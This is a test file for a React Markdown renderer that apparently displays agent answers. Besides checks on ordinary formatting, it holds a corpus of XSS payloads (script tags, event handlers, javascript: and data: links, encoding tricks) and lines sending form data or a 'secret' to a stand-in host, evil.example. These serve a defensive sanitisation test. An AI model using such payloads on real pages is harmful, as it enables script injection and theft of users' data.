import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

const render = (text: string, imageHosts: readonly string[] = []) =>
  renderToStaticMarkup(<Markdown text={text} growing={false} imageHosts={imageHosts} />)

test('what an answer is made of becomes elements', () => {
  expect(render('# A\n\nb **c** *d* ~~e~~ `f`')).toBe(
    '<h3>A</h3><p>b <strong>c</strong> <em>d</em> <del>e</del> <code dir="ltr">f</code></p>',
  )
  expect(render('1. a\n2. b\n   - c')).toBe('<ol start="1"><li>a</li><li>b<ul><li>c</li></ul></li></ol>')
  expect(render('3. a')).toContain('<ol start="3">')
  expect(render('|a|b|\n|-|-:|\n|1|2|')).toContain('<td class="right">2</td>')
  expect(render('> a\n\n---\n\n```js\n<b>\n```')).toBe(
    '<blockquote><p>a</p></blockquote><hr/><pre dir="ltr" tabindex="0"><code>&lt;b&gt;</code></pre>',
  )
})

test('a line end is one, because agents write so', () => {
  expect(render('a\nb')).toBe('<p>a<br/>b</p>')
})

test('a link opens elsewhere, tells nothing and shows where it leads', () => {
  expect(render('[care](https://shop.example/care)')).toBe(
    '<p><a href="https://shop.example/care" target="_blank" rel="noopener noreferrer">care</a> <bdi class="place" dir="ltr">shop.example</bdi></p>',
  )
  expect(render('https://shop.example/care')).not.toContain('place')
})

test('an image of an unlisted host is a link, of a listed one an image', () => {
  const text = '![a bag](https://cdn.example/a.png)'
  expect(render(text)).not.toContain('<img')
  expect(render(text)).toContain('href="https://cdn.example/a.png"')
  expect(render(text, ['cdn.example'])).toContain('<img src="https://cdn.example/a.png" alt="a bag"')
})

const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=card></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://ok.example" onmouseover="alert(1))',
  "[x](https://ok.example ' onmouseover=alert(1)')",
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/pixel.png?secret)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```html" onclick="alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '- <script>alert(1)</script>',
  '|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|',
  '> <script>alert(1)</script>',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  '\u0000<script>alert(1)</script>',
  '[x](https://ok.example/\u202egnp.exe)',
]

/** Everything that our element makers can write, and nothing else. */
const allowed =
  /^(?:[^<]|<\/?(?:p|h3|h4|h5|ul|li|strong|em|del|blockquote|table|thead|tbody|tr)>|<(?:hr|br)\/>|<\/?ol(?: start="\d+")?>|<\/?code(?: dir="ltr")?>|<\/?pre(?: dir="ltr" tabindex="0")?>|<\/?div(?: class="table" tabindex="0")?>|<\/?t[hd](?: class="(?:left|right|center)?")?>|<\/?bdi(?: class="place" dir="ltr")?>|<p class="plain">|<\/?a(?: href="(?:https?|mailto):[^"]*" target="_blank" rel="noopener noreferrer")?>)*$/

test.each(corpus)('%s comes out as harmless elements', (text) => {
  expect(render(text)).toMatch(allowed)
})

test('so does anything that is put together from it', () => {
  const piece = fc.oneof(
    fc.constantFrom(...corpus),
    fc.string(),
    fc.constantFrom('\n', '\n\n', '> ', '- ', '**', '`', '[', '](', '|'),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      expect(render(pieces.join(''))).toMatch(allowed)
    }),
    { numRuns: 500 },
  )
})

test('beyond the longest Markdown the rest stands there as it is', () => {
  const html = render(`${`${'a '.repeat(500)}\n\n`.repeat(60)}**b**`)
  expect(html).toContain('**b**</p>')
})

test.each([
  ['a **b', '<p>a <strong>b</strong></p>'],
  ['a **', '<p>a </p>'],
  ['- **b', '<li><strong>b</strong></li>'],
  ['2 ** 3', '<p>2 ** 3</p>'],
  ['a [b c', '<p>a b c</p>'],
])('a growing answer shows no mark of which the end is to come: %s', (text, expected) => {
  expect(renderToStaticMarkup(<Markdown text={text} growing imageHosts={[]} />)).toContain(expected)
})
